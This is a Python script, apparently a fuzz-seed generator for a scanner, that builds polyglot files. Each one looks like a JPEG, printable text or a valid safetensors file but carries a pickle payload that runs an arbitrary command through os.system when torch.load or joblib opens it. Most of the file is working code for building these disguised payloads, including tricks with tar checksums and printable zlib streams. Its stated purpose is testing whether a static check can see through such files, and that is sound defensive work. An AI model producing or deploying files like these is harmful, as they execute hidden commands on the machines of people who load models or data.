"""Files that one reader takes for data and another loader runs as code.

Each builder returns bytes whose payload runs `cmd` through os.system when
the named loader reads the file, while its start looks like a data format
(an image, plain text, a safetensors file). The static judgement that may
unmark a loader must see through every one of them.

    /usr/bin/python3 polyglots.py KIND OUT CMD   (writes one, for fuzz seeds)

Threat model: docs/threat-model.md §4.2.
"""
import io
import json
import os
import pickle
import random
import struct
import sys
import tarfile
import zlib


class _System:
    def __init__(self, cmd):
        self.cmd = cmd

    def __reduce__(self):
        return (os.system, (self.cmd,))


def _member(t, name, data):
    ti = tarfile.TarInfo(name)
    ti.size = len(data)
    t.addfile(ti, io.BytesIO(data))


def _fix_tar_checksum(b):
    hdr = bytearray(b[0:512])
    hdr[148:156] = b" " * 8
    b[148:156] = b"%06o\0 " % sum(hdr)


def tar_as_image(cmd):
    """torch.load reads a non-zip file as a legacy tar and unpickles its
    "storages" member; Python's tarfile needs only a first block whose
    checksum adds up, so the block may start like a JPEG."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        _member(t, "AAAAjunk", b"\0" * 8192)
        _member(t, "sys_info", pickle.dumps({}, protocol=2))
        _member(t, "storages", pickle.dumps(_System(cmd), protocol=2))
    b = bytearray(buf.getvalue())
    b[0:4] = b"\xff\xd8\xff\xe0"
    _fix_tar_checksum(b)
    return bytes(b)


def tar_negative_checksum(cmd):
    """A tar header with no magic whose signed byte sum is negative, its
    checksum written base-256 (0xff and 7 bytes), as Python's nti() reads
    it; it starts like a JPEG. torch.load unpickles "storages" from the
    ordinary tar after it."""
    b = bytearray(512)
    b[0:4] = b"\xff\xd8\xff\xe0"
    b[4:100] = b"\x80" * 96
    b[100:108] = b"0000644\0"
    b[108:116] = b"0000000\0"
    b[116:124] = b"0000000\0"
    b[124:136] = b"00000000000\0"
    b[136:148] = b"00000000000\0"
    b[156:157] = b"0"
    b[157:512] = b"\x80" * 355
    sig = 256 + sum(struct.unpack_from("148b8x356b", bytes(b)))
    assert sig < 0
    b[148:156] = b"\xff" + (2 ** 56 + sig).to_bytes(7, "big")
    payload = pickle.dumps(_System(cmd), protocol=2)
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name in ("storages", "tensors", "pickle"):
            _member(t, name, payload)
    return bytes(b) + buf.getvalue()


def safetensors_tar(cmd, hlen=1528):
    """A valid safetensors file whose JSON header is laid out as a tar
    header; the tar's members live in the tensor data."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        _member(t, "storages", pickle.dumps(_System(cmd), protocol=2))
    rest = buf.getvalue()
    tail = '},"w":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(rest), len(rest))

    def build(chk):
        h = bytearray(struct.pack("<Q", hlen)) + b'{"__metadata__":{"a":"'
        h += b"x" * (100 - len(h))
        h += b"0000644 0000000 0000000 " + (b"%011o " % (8 + hlen - 512)) + b"00000000000 "
        h += chk + b"0"
        h += b" " * (512 - len(h))
        h += b'"' + tail.encode()
        h += b" " * (8 + hlen - len(h))
        return h
    h = build(b" " * 8)
    h = build(b"%07o " % sum(h[:512]))
    assert len(h) == 8 + hlen
    json.loads(h[8:])  # still a valid safetensors header
    return bytes(h) + rest


def zlib_text(cmd):
    """joblib inflates any file that starts with 0x78 and unpickles the
    result. A stored deflate block keeps every byte printable, the Adler-32
    at the end too (found by trying paddings)."""
    arg = cmd.encode()
    if len(arg) > 0x7e - 0x20:
        raise ValueError("command too long for a printable length byte")
    arg += b" " * (0x2a - len(arg)) if len(arg) < 0x2a else b""
    pk = b"cos\nsystem\n(U" + bytes([len(arg)]) + arg + b"tR."
    size = 0x4120  # LEN " A", NLEN \xdf\xbe: valid UTF-8
    for seed in range(100000):
        r = random.Random(seed)
        pad = bytes(r.choice(b"abcdefghij klmnop\n") for _ in range(size))
        data = (pk + b"\n" + pad)[:size]
        adler = struct.pack(">I", zlib.adler32(data))
        if all(0x20 <= c < 0x7f for c in adler):
            return b"x^\x21" + struct.pack("<HH", size, size ^ 0xffff) + data + adler
    raise RuntimeError("no printable Adler-32 found")


def zf_text(cmd):
    """joblib's oldest format: "ZF", a 19-byte hex length, then zlib. The
    same printable stored-block stream as zlib_text behind it."""
    stream = zlib_text(cmd)
    size = struct.unpack_from("<H", stream, 3)[0]
    return (b"ZF" + b"  0x%x" % size).ljust(21) + stream


BUILDERS = {"tar-image": tar_as_image, "tar-negative-checksum": tar_negative_checksum,
            "safetensors-tar": safetensors_tar, "zlib-text": zlib_text, "zf-text": zf_text}

if __name__ == "__main__":
    with open(sys.argv[2], "wb") as f:
        f.write(BUILDERS[sys.argv[1]](sys.argv[3]))
